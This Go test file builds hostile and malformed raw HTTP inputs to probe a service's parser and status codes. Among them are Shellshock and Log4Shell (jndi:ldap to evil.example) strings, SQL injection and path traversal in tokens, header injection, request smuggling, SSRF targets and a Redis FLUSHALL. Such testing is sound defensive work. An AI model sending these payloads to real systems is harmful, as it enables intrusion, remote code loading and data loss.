package hostile_test

import (
	"bytes"
	"fmt"
	"maps"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
)

func sorted(m map[string]string) []string { return slices.Sorted(maps.Keys(m)) }

// sortInputs gives a family that was made from a map its order.
func sortInputs(f *family) {
	slices.SortFunc(f.inputs, func(a, b input) int { return strings.Compare(a.name, b.name) })
}

// requestLines holds first lines that are none, or none of this service.
func requestLines() family {
	f := family{name: "request-lines", statuses: []int{200, 400, 401, 403, 404, 405, 431, 501, 505}}
	rest := "\r\nHost: localhost\r\nAuthorization: Bearer " + ours + "\r\n\r\n"
	for _, line := range []string{
		"GET /healthz", "GET /healthz ", "GET /healthz HTTP", "GET /healthz HTTP/", "GET /healthz HTTP/1", "GET /healthz HTTP/1.", "GET /healthz HTTP/0.9", "GET /healthz HTTP/1.2", "GET /healthz HTTP/1.9",
		"GET /healthz HTTP/2.0", "GET /healthz HTTP/2", "GET /healthz HTTP/3.0", "GET /healthz HTTP/9.9", "GET /healthz HTTP/11.1", "GET /healthz HTTP/1.11", "GET /healthz HTTP/1.1.1", "GET /healthz HTTP/-1.1",
		"GET /healthz HTTP/1.1 ", "GET /healthz HTTP/1.1 x", "GET /healthz http/1.1", "GET /healthz hTTP/1.1", "GET /healthz HTTPS/1.1", "GET /healthz XTTP/1.1", "GET /healthz HTTP/1,1", "GET /healthz HTTP/1.x", "GET /healthz HTTP/1.１",
		"GET  /healthz HTTP/1.1", "GET /healthz  HTTP/1.1", "GET\t/healthz\tHTTP/1.1", "GET\t/healthz HTTP/1.1", "GET /healthz\tHTTP/1.1", " GET /healthz HTTP/1.1", "\tGET /healthz HTTP/1.1",
		"GET\x0b/healthz HTTP/1.1", "GET\x00/healthz HTTP/1.1", "GET\xa0/healthz HTTP/1.1", "GET /healthz\x00 HTTP/1.1", "GET /healthz HTTP/1.1\x00", "GET /health\rz HTTP/1.1", "GET /healthz HTTP/1.1\r", "\x00GET /healthz HTTP/1.1",
		"GET", "GET ", "GET /", "/healthz", "HTTP/1.1", " ", "/ / /", "GET HTTP/1.1", "GET /healthz/ HTTP/1.1", "GET healthz HTTP/1.1", "GET ?q HTTP/1.1", "GET # HTTP/1.1", "GET * HTTP/1.1", "OPTIONS * HTTP/1.1", "OPTIONS / HTTP/1.1",
		"get /healthz HTTP/1.1", "Get /healthz HTTP/1.1", "GETT /healthz HTTP/1.1", "G /healthz HTTP/1.1", "TRACE / HTTP/1.1", "TRACE /healthz HTTP/1.1", "TRACK /healthz HTTP/1.1", "DEBUG /healthz HTTP/1.1", "PROPFIND / HTTP/1.1", "MOVE / HTTP/1.1",
		"PRI * HTTP/2.0", "CONNECT localhost:22 HTTP/1.1", "CONNECT 169.254.169.254:80 HTTP/1.1", "CONNECT / HTTP/1.1", "PURGE / HTTP/1.1", "POST / HTTP/1.1", "DELETE / HTTP/1.1", "PUT /healthz HTTP/1.1", "PATCH /v1/contacts HTTP/1.1",
		"GET\u200b /healthz HTTP/1.1", "ＧＥＴ /healthz HTTP/1.1", "G\"T /healthz HTTP/1.1", "G(T /healthz HTTP/1.1", "G:T /healthz HTTP/1.1", "G{T /healthz HTTP/1.1", "G\x01T /healthz HTTP/1.1", "G\x7fT /healthz HTTP/1.1", "123 /healthz HTTP/1.1", "$$ /healthz HTTP/1.1",
		"GET http:// HTTP/1.1", "GET http:/healthz HTTP/1.1", "GET http:///healthz HTTP/1.1", "GET http://localhost/healthz HTTP/1.1", "GET http://evil.example/healthz HTTP/1.1", "GET https://evil.example/v1/contacts HTTP/1.1",
		"GET http://user:password@localhost/healthz HTTP/1.1", "GET http://[::1/healthz HTTP/1.1", "GET http://[::1]:99999/healthz HTTP/1.1", "GET http://localhost:x/healthz HTTP/1.1", "GET http://local host/healthz HTTP/1.1", "GET http://%00/healthz HTTP/1.1",
		"GET file:///etc/passwd HTTP/1.1", "GET ftp://localhost/ HTTP/1.1", "GET javascript:alert(1) HTTP/1.1", "GET gopher://localhost:6379/_ HTTP/1.1", "GET localhost:6379 HTTP/1.1", "GET //healthz HTTP/1.1", "GET //evil.example/healthz HTTP/1.1", "GET ///healthz HTTP/1.1", "GET \\healthz HTTP/1.1", "GET /\\healthz HTTP/1.1",
		"GET /healthz?" + strings.Repeat("a", 15_000) + " HTTP/1.1", "GET /" + strings.Repeat("a", 17_000) + " HTTP/1.1", strings.Repeat("G", 1000) + " /healthz HTTP/1.1", strings.Repeat("G", 17_000) + " /healthz HTTP/1.1", "GET /healthz HTTP/1." + strings.Repeat("1", 1000),
		"GET /" + strings.Repeat("a/", 5000) + " HTTP/1.1", "GET /v1/contacts?" + strings.Repeat("a=b&", 3000) + " HTTP/1.1", "GET /v1/contacts?" + strings.Repeat("&", 10_000) + " HTTP/1.1", "GET /" + strings.Repeat("%2f", 4000) + " HTTP/1.1",
	} {
		f.add(brief(line), line+rest)
	}
	for name, data := range map[string]string{
		"LF alone": "GET /healthz HTTP/1.1\nHost: localhost\n\n", "CR alone": "GET /healthz HTTP/1.1\rHost: localhost\r\r", "LF CR": "GET /healthz HTTP/1.1\n\rHost: localhost\n\r\n\r",
		"HTTP/0.9": "GET /healthz\r\n", "HTTP/0.9 with LF": "GET /healthz\n", "empty lines before": "\r\n\r\n" + get("/healthz"), "LF before": "\n\n" + get("/healthz"), "1,000 empty lines before": strings.Repeat("\r\n", 1000) + get("/nothing"),
		"empty lines for ever": strings.Repeat("\r\n", 20_000), "LF for ever": strings.Repeat("\n", 40_000), "nothing": "", "CR": "\r", "CR LF": "\r\n", "space": " ", "NUL": "\x00", "NULs": strings.Repeat("\x00", 20_000), "a byte": "G",
		"HTTP/1.0 without headers": "GET /healthz HTTP/1.0\r\n\r\n", "HTTP/1.0 keep-alive": "GET /healthz HTTP/1.0\r\nConnection: keep-alive\r\n\r\nGET /nothing HTTP/1.0\r\n\r\n", "an answer": "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
		"a stream over HTTP/1.0":  "POST /v1/evaluate/batch HTTP/1.0\r\nAuthorization: Bearer " + ours + "\r\nContent-Length: 29\r\n\r\n" + `{"template": "x","all": true}`,
		"HEAD of what has a body": "HEAD /v1/contacts/" + janeUUID + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + ours + "\r\nConnection: close\r\n\r\n",
		"HEAD of nothing":         "HEAD /nothing HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
		"GET with a body":         request("GET", "/healthz", ours, `{"a":1}`), "DELETE with a body": request("DELETE", "/nothing", ours, `{"a":1}`), "GET with a body in chunks": "GET /healthz HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
	} {
		f.add(name, data)
	}
	return ordered(f)
}

func ordered(f family) family {
	sortInputs(&f)
	return f
}

// headers holds whole headers, and many of them.
func headers() family {
	f := family{name: "headers", statuses: []int{200, 400, 401, 403, 413, 415, 417, 431, 501}}
	const start = "POST /v1/evaluate HTTP/1.1\r\nAuthorization: Bearer " + ours + "\r\n"
	length := "Content-Length: " + strconv.Itoa(len(evaluation)) + "\r\n"
	for _, lines := range []string{
		"", "Host:", "Host: ", "Host: localhost\r\nHost: evil.example", "Host: localhost\r\nhost: localhost", "Host: evil.example", "Host: evil.example:80", "Host: user@localhost", "Host: localhost/path", "Host: localhost?q", "Host: local host", "Host: localhost\x00", "Host: [::1", "Host: ::1", "Host: localhost:99999", "Host: localhost:-1", "Host: 127.0.0.1, evil.example",
		"Host : localhost", " Host: localhost", "Host: localhost\r\n evil.example", "Host: " + strings.Repeat("a", 300), "Host: " + strings.Repeat("a.", 5000), "Host: %6cocalhost", "Host: <script>", "Host: localhost\xff",
		"Host: localhost\r\nX", "Host: localhost\r\n: x", "Host: localhost\r\n:", "Host: localhost\r\n x", "Host: localhost\r\nX y: z", "Host: localhost\r\nX: y\r\n z", "Host: localhost\r\nX: y\r\n\tz", "Host: localhost\r\nX: y\n z", "Host: localhost\r\nX: y\rz", "Host: localhost\nX: y", "Host: localhost\r\n\x00",
		"Host: localhost\r\nX: " + strings.Repeat("x", 15_000), "Host: localhost\r\nX: " + strings.Repeat("x", 17_000), "Host: localhost\r\nX: " + strings.Repeat("x", 1<<20), "Host: localhost\r\n" + strings.Repeat("x", 15_000) + ": y", "Host: localhost\r\n" + strings.Repeat("x", 17_000) + ": y",
		"Host: localhost\r\n" + strings.TrimSuffix(strings.Repeat("X: y\r\n", 100), "\r\n"), "Host: localhost\r\n" + strings.TrimSuffix(strings.Repeat("X: y\r\n", 2000), "\r\n"), "Host: localhost\r\n" + strings.TrimSuffix(strings.Repeat("X: y\r\n", 20_000), "\r\n"), "Host: localhost\r\n" + numbered(1000), "Host: localhost\r\n" + strings.TrimSuffix(strings.Repeat("a:\r\n", 4000), "\r\n"),
		"Host: localhost\r\nAuthorization: Bearer " + theirs + "x", "Host: localhost\r\nAuthorization: Bearer", "Host: localhost\r\nCookie: " + strings.Repeat("a=b; ", 2000), "Host: localhost\r\nCookie: \x01=\x02", "Host: localhost\r\nCookie: ;;;===",
		"Host: localhost\r\nContent-Type: text/plain", "Host: localhost\r\nContent-Type: multipart/form-data", "Host: localhost\r\nContent-Type: multipart/form-data; boundary=", "Host: localhost\r\nContent-Type: multipart/form-data; boundary=\x01", "Host: localhost\r\nContent-Type: application/json; charset=utf-16", "Host: localhost\r\nContent-Type: application/json; charset=utf-7",
		"Host: localhost\r\nContent-Type: application/json; charset", "Host: localhost\r\nContent-Type: application/json;;;;", "Host: localhost\r\nContent-Type: ;", "Host: localhost\r\nContent-Type: " + strings.Repeat(";", 10_000), "Host: localhost\r\nContent-Type: application/json\r\nContent-Type: text/html", "Host: localhost\r\nContent-Type: \xff\xfe", "Host: localhost\r\nContent-Type: APPLICATION/JSON", "Host: localhost\r\nContent-Type: application/xml",
		"Host: localhost\r\nContent-Encoding: gzip", "Host: localhost\r\nContent-Encoding: br", "Host: localhost\r\nContent-Encoding: zstd", "Host: localhost\r\nContent-Encoding: deflate, gzip", "Host: localhost\r\nContent-Encoding: identity", "Host: localhost\r\nContent-Encoding: x", "Host: localhost\r\nContent-Encoding:",
		"Host: localhost\r\nExpect: 100-continue", "Host: localhost\r\nExpect: 200-ok", "Host: localhost\r\nExpect: 100-continue, x", "Host: localhost\r\nExpect: ", "Host: localhost\r\nExpect: 100-continue\r\nExpect: 100-continue", "Host: localhost\r\nExpect: 100-CONTINUE",
		"Host: localhost\r\nConnection: close, keep-alive", "Host: localhost\r\nConnection: keep-alive\r\nConnection: close", "Host: localhost\r\nConnection: Authorization", "Host: localhost\r\nConnection: Content-Length", "Host: localhost\r\nConnection: \x00", "Host: localhost\r\nConnection: " + strings.Repeat("close,", 2000), "Host: localhost\r\nKeep-Alive: timeout=999999999999", "Host: localhost\r\nProxy-Connection: keep-alive",
		"Host: localhost\r\nX-Request-Id: " + strings.Repeat("x", 65), "Host: localhost\r\nX-Request-Id: <script>", "Host: localhost\r\nX-Request-Id: a b", "Host: localhost\r\nX-Request-Id: \xff", "Host: localhost\r\nX-Request-Id: \r\n Set-Cookie: x", "Host: localhost\r\nX-Request-Id: a\r\nX-Request-Id: b", "Host: localhost\r\nX-Request-Id: %0d%0aSet-Cookie:x", "Host: localhost\r\nX-Request-Id: a\nSet-Cookie: x",
		"Host: localhost\r\nX-Forwarded-For: 127.0.0.1", "Host: localhost\r\nX-Forwarded-Host: evil.example", "Host: localhost\r\nX-Original-URL: /v1/contacts", "Host: localhost\r\nX-Rewrite-URL: /v1/contacts", "Host: localhost\r\nX-HTTP-Method-Override: DELETE", "Host: localhost\r\nForwarded: for=\"[::1]\";host=evil", "Host: localhost\r\nVia: " + strings.Repeat("1.1 x,", 2000), "Host: localhost\r\nMax-Forwards: -1",
		"Host: localhost\r\nRange: bytes=0-", "Host: localhost\r\nRange: bytes=" + strings.Repeat("0-1,", 3000), "Host: localhost\r\nRange: bytes=9999999999999999999-", "Host: localhost\r\nIf-Match: " + strings.Repeat(`"1",`, 3000), "Host: localhost\r\nIf-None-Match: *", "Host: localhost\r\nIf-Modified-Since: Thu, 01 Jan 99999 00:00:00 GMT", "Host: localhost\r\nIf-Modified-Since: \xff",
		"Host: localhost\r\nAccept: text/html", "Host: localhost\r\nAccept: */*;q=99", "Host: localhost\r\nAccept-Encoding: gzip;q=0, br;q=0, identity;q=0", "Host: localhost\r\nAccept-Language: " + strings.Repeat("x-", 5000), "Host: localhost\r\nAccept-Charset: utf-7", "Host: localhost\r\nTE: trailers, deflate", "Host: localhost\r\nTrailer: Content-Length", "Host: localhost\r\nTrailer: Authorization, Host",
		"Host: localhost\r\nOrigin: null", "Host: localhost\r\nOrigin: https://evil.example", "Host: localhost\r\nOrigin: \x01", "Host: localhost\r\nReferer: javascript:alert(1)", "Host: localhost\r\nUser-Agent: () { :;}; /bin/true", "Host: localhost\r\nUser-Agent: ${jndi:ldap://evil.example/a}", "Host: localhost\r\nUser-Agent: %n%n%n%s%s",
	} {
		f.add(brief(lines), start+lines+"\r\n"+length+"\r\n"+evaluation)
	}
	for _, token := range []string{
		"", "Bearer", "Bearer ", "Bearer  ", "Bearer x", "Bearer " + ours + "x", "bearer " + ours[:len(ours)-1], "Basic " + ours, "Basic b3VyczpvdXJz", "Digest username=x", "Negotiate AAAA", "Bearer " + strings.ToUpper(ours), "Bearer\t" + ours, "Bearer" + ours, "Token", "Token x",
		"Bearer " + ours + ", Bearer " + theirs, "Bearer \x00", "Bearer \xff", "Bearer " + strings.Repeat("x", 10_000), "Bearer ../../etc/passwd", "Bearer ' OR 1=1 --", "Bearer *", "Bearer null", "Bearer " + ours + "\x00", ours, "BearerBearer " + ours, "Bearer Bearer " + ours, "Bearer eyJhbGciOiJub25lIn0.e30.",
	} {
		f.add("token "+brief(token), "GET /v1/access HTTP/1.1\r\nHost: localhost\r\nAuthorization: "+token+"\r\n\r\n")
	}
	return f
}

// numbered gives headers of different names.
func numbered(n int) string {
	lines := make([]string, n)
	for i := range lines {
		lines[i] = fmt.Sprintf("X-%d: %d", i, i)
	}
	return strings.Join(lines, "\r\n")
}

// headerBytes holds each byte that does not belong into a header, in names and in values.
func headerBytes() family {
	f := family{name: "header-bytes", statuses: []int{200, 400}}
	var bad []byte
	for b := range 0x20 {
		bad = append(bad, byte(b))
	}
	bad = append(bad, ' ', '"', '(', ')', ',', '/', ';', '<', '=', '>', '?', '@', '[', '\\', ']', '{', '}', 0x7f, 0x80, 0x85, 0xa0, 0xff)
	for _, b := range bad {
		if b != '\n' { // which ends the header
			f.add(fmt.Sprintf("0x%02x in a name", b), "GET /healthz HTTP/1.1\r\nHost: localhost\r\nX"+string([]byte{b})+"Y: z\r\n\r\n")
		}
		f.add(fmt.Sprintf("0x%02x in a value", b), "GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: y"+string([]byte{b})+"z\r\n\r\n")
	}
	return f
}

// foreignProtocols holds how other protocols begin, and noise.
func foreignProtocols() family {
	f := family{name: "foreign-protocols", statuses: []int{400, 404, 405, 431, 505}}
	for name, data := range map[string]string{
		"TLS": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + strings.Repeat("\xa5", 500), "TLS 1.3": "\x16\x03\x03\x00\x7a\x01\x00\x00\x76\x03\x03" + strings.Repeat("\x5a", 111), "SSL 2": "\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10", "TLS alert": "\x15\x03\x03\x00\x02\x02\x28",
		"HTTP/2 preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00", "HTTP/2 frames": "\x00\x00\x12\x04\x00\x00\x00\x00\x00\x00\x03\x00\x00\x00\x80", "SSH": "SSH-2.0-OpenSSH_9.2\r\n", "SMTP": "EHLO evil.example\r\nMAIL FROM:<a@b>\r\n", "POP3": "USER x\r\nPASS y\r\n", "IMAP": "a1 LOGIN x y\r\n", "FTP": "USER anonymous\r\n", "IRC": "NICK x\r\nUSER x 0 * :x\r\n",
		"Redis": "*1\r\n$4\r\nPING\r\n", "Redis inline": "SET a b\r\n", "Redis flush": "*1\r\n$8\r\nFLUSHALL\r\n", "memcached": "set a 0 0 1\r\nb\r\n", "memcached binary": "\x80\x0a\x00\x00" + strings.Repeat("\x00", 20), "PostgreSQL": "\x00\x00\x00\x08\x04\xd2\x16\x2f", "MySQL": "\x20\x00\x00\x01\x85\xa6\x3f\x20", "MongoDB": "\x3f\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\xd4\x07\x00\x00",
		"SOCKS4": "\x04\x01\x00\x50\x7f\x00\x00\x01\x00", "SOCKS5": "\x05\x01\x00", "PROXY 1": "PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\n" + get("/healthz"), "PROXY 2": "\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c\x7f\x00\x00\x01\x7f\x00\x00\x01\x00\x01\x00\x02" + get("/healthz"), "RTSP": "OPTIONS rtsp://localhost/ RTSP/1.0\r\nCSeq: 1\r\n\r\n", "SIP": "INVITE sip:a@b SIP/2.0\r\n\r\n", "ICY": "SOURCE /x ICE/1.0\r\n\r\n",
		"FastCGI": "\x01\x01\x00\x01\x00\x08\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00", "uwsgi": "\x00\x20\x00\x00\x0e\x00REQUEST_METHOD\x03\x00GET", "SCGI": "14:CONTENT_LENGTH\x000\x00,", "AJP": "\x12\x34\x00\x01\x0a", "AMQP": "AMQP\x00\x00\x09\x01", "MQTT": "\x10\x0e\x00\x04MQTT\x04\x02\x00\x3c\x00\x02ab", "Kafka": "\x00\x00\x00\x14\x00\x12\x00\x00\x00\x00\x00\x01\x00\x04test", "STOMP": "CONNECT\naccept-version:1.2\n\n\x00",
		"LDAP": "\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00", "SMB": "\x00\x00\x00\x85\xffSMB\x72", "RDP": "\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00", "VNC": "RFB 003.008\n", "Telnet": "\xff\xfb\x1f\xff\xfb\x20", "DNS": "\x00\x1d\xaa\xaa\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", "X11": "l\x00\x0b\x00\x00\x00\x00\x00\x00\x00\x00\x00", "Git": "0032git-upload-pack /x.git\x00host=x\x00", "rsync": "@RSYNCD: 31.0\n", "finger": "root\r\n", "Gopher": "/x\r\n",
		"NTLM": "GET / HTTP/1.1\r\nAuthorization: Negotiate TlRMTVNTUAAB\r\n", "gzip": "\x1f\x8b\x08\x00\x00\x00\x00\x00", "ZIP": "PK\x03\x04\x14\x00", "PNG": "\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR", "ELF": "\x7fELF\x02\x01\x01\x00", "HTML": "<html>\r\n<body>\r\n\r\n", "JSON": evaluation, "XML": "<?xml version=\"1.0\"?>\r\n\r\n", "Java": "\xac\xed\x00\x05sr", "UTF-16": "G\x00E\x00T\x00 \x00/\x00 \x00", "UTF-8 BOM": "\xef\xbb\xbf" + get("/healthz"),
	} {
		f.add(name, data)
	}
	sortInputs(&f)
	random := rand.New(rand.NewPCG(1, 2)) //nolint:gosec // the same noise in each run
	for n := range 60 {
		noise := make([]byte, 1<<(n%14))
		for i := range noise {
			noise[i] = byte(random.UintN(256))
		}
		if n >= 14 || n < 3 { // too short to be sure to differ
			noise = append(noise, fmt.Sprintf("%03d\r\n\r\n", n)...)
		}
		f.add(fmt.Sprintf("noise %d", n), string(noise))
	}
	return f
}

// truncations holds each beginning of a good request: the client goes away, or only stops to send.
func truncations() family {
	f := family{name: "truncations", statuses: []int{400, 408}}
	whole := "POST /v1/evaluate HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + ours + "\r\nContent-Length: 21\r\n\r\n" + `{"template":"Hi you"}`
	for n := 2; n < len(whole); n++ {
		f.add(fmt.Sprintf("%d bytes of %d", n, len(whole)), whole[:n])
	}
	return f
}

// mutations holds good requests with one byte changed.
func mutations() family {
	f := family{name: "mutations", statuses: []int{200, 400, 401, 404, 405, 413, 415, 501, 505}}
	whole := []byte("POST /v1/evaluate HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + ours + "\r\nContent-Type: application/json\r\nContent-Length: 21\r\n\r\n" + `{"template":"Hi you"}`)
	for i := range whole {
		for _, b := range []byte{0x00, '\n', ' ', 0xff} {
			changed := bytes.Clone(whole)
			if changed[i] == b {
				continue
			}
			changed[i] = b
			f.add(fmt.Sprintf("0x%02x at %d", b, i), string(changed))
		}
	}
	return f
}

// pipelines holds several requests that are sent at once.
func pipelines() family {
	f := family{name: "pipelines", statuses: []int{200, 400, 401, 404, 405, 413, 431}}
	good, missing, bad := post("/v1/evaluate", evaluation), get("/nothing"), "GET / HTTP/1.1\r\nX\x00: y\r\n\r\n"
	for name, data := range map[string]string{
		"100 at once": strings.Repeat(good, 100), "1,000 that are not there": strings.Repeat(missing, 1000), "a bad one between": good + bad + good, "a bad one last": good + good + bad, "a bad one first": bad + good, "half of one last": good + good[:60],
		"a body that is too short": strings.Replace(good, "Content-Length: ", "Content-Length: 1", 1) + missing, "close between": good + strings.Replace(good, "Host:", "Connection: close\r\nHost:", 1) + missing, "empty lines between": good + "\r\n\r\n" + missing + "\r\n" + good,
		"errors between": good + post("/v1/evaluate", "{") + good + missing + post("/v1/evaluate", "\xff") + good, "large between": good + post("/v1/evaluate", strings.Repeat(" ", 1<<20+1)) + missing, "large headers between": good + strings.Replace(missing, "Host:", "X: "+strings.Repeat("x", 17_000)+"\r\nHost:", 1) + good,
		"no token between": good + strings.Replace(good, "Authorization", "X", 1) + good, "a body for GET between": request("GET", "/healthz", ours, missing) + missing, "a body that is a request": post("/v1/check", missing) + missing, "expect between": strings.Replace(good, "Host:", "Expect: 100-continue\r\nHost:", 1) + missing,
		"a stream between": good + post("/v1/evaluate/batch", `{"template":"Hi @contact.name","all":true}`) + good, "a stream that is cut": post("/v1/evaluate/batch", `{"template":"Hi @contact.name","all":true}`) + "GET",
		"an upgrade between": good + strings.Replace(missing, "Host:", "Upgrade: websocket\r\nConnection: Upgrade\r\nHost:", 1) + good, "HTTP/1.0 between": good + "GET /healthz HTTP/1.0\r\n\r\n" + missing, "chunks between": good + "POST /v1/evaluate HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + ours + "\r\nTransfer-Encoding: chunked\r\n\r\n" + bytewise(evaluation) + missing,
	} {
		f.add(name, data)
	}
	return ordered(f)
}

// upgrades holds requests for other protocols, and what would come after.
func upgrades() family {
	f := family{name: "upgrades", statuses: []int{200, 400, 404}}
	for _, target := range []string{"/healthz", "/nothing"} {
		for _, lines := range []string{
			"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13", "Upgrade: websocket\r\nConnection: keep-alive, Upgrade\r\nSec-WebSocket-Version: 777", "Upgrade: websocket", "Connection: Upgrade", "Upgrade: WebSocket\r\nConnection: upgrade",
			"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", "Upgrade: h2c\r\nConnection: Upgrade", "Upgrade: TLS/1.2\r\nConnection: Upgrade", "Upgrade: HTTP/3.0\r\nConnection: Upgrade", "Upgrade: x, y, z\r\nConnection: Upgrade", "Upgrade:\r\nConnection: Upgrade", "Upgrade: \xff\r\nConnection: Upgrade", "Upgrade: " + strings.Repeat("a,", 5000) + "\r\nConnection: Upgrade",
		} {
			start := "GET " + target + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + ours + "\r\n" + lines + "\r\n\r\n"
			f.add(target+" "+brief(lines), start)
			f.add(target+" "+brief(lines)+", then frames", start+"\x81\x85\x37\xfa\x21\x3d\x7f\x9f\x4d\x51\x58")
			f.add(target+" "+brief(lines)+", then a request", start+get("/nothing"))
		}
	}
	const socket = "POST /v1/evaluate HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + ours + "\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
	for _, connection := range []string{"Upgrade", "Upgrade, close", "close, Upgrade", "Upgrade, Content-Length", "Upgrade, Transfer-Encoding"} {
		start := socket + "Connection: " + connection + "\r\n"
		f.add("with a request as its body, "+connection, fmt.Sprintf("%sContent-Length: %d\r\n\r\n%s", start, len(hidden), hidden))
		f.add("with a request as its chunk, "+connection, start+"Transfer-Encoding: chunked\r\n\r\n"+chunked(hidden))
		f.add("with a body that goes on, "+connection, fmt.Sprintf("%sContent-Length: %d\r\n\r\n%s\x81\x00", start, len(evaluation), evaluation))
	}
	return f
}
